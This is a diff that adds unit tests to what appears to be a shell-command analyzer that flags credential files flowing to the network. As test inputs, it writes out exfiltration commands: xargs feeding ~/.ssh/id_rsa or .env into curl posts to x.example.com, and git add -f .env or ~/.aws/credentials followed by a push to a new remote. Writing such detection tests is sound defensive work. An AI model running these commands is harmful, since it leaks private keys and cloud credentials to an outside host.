@@ -229,3 +229,19 @@ TEST_CASE("credential files read by globs, $(< file), dd and descriptors are sou
   }
   CHECK_FALSE(has_flow(analyze("cat *.md | nc h.example.com 1"), "credential_file", "network"));
 }
+
+TEST_CASE("xargs reading its items from a credential file carries them into the command") {
+  CHECK(has_flow(analyze("xargs -a ~/.ssh/id_rsa -0 -I@ curl -d @ https://x.example.com"), "credential_file", "network"));
+  CHECK(has_flow(analyze("xargs --arg-file=.env -I{} curl -d {} https://x.example.com"), "credential_file", "network"));
+  CHECK_FALSE(secret_leaves(analyze("xargs -a urls.txt -n1 curl -sO")));
+}
+
+TEST_CASE("secret files staged with git add leave with a push to a new remote") {
+  auto facts = analyze("git remote add x https://x.example.com/r.git; git add -f .env && git commit -m x && git push x HEAD");
+  const auto* flow = flow_of(facts, "credential_file", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "x.example.com");
+  CHECK(has_flow(analyze("git add ~/.aws/credentials; git push https://x.example.com/r.git main"), "credential_file", "network"));
+  CHECK_FALSE(secret_leaves(analyze("git remote add x https://x.example.com/r.git; git add src/ README.md && git push x HEAD")));
+  CHECK_FALSE(secret_leaves(analyze("git add .env.example && git push")));
+}
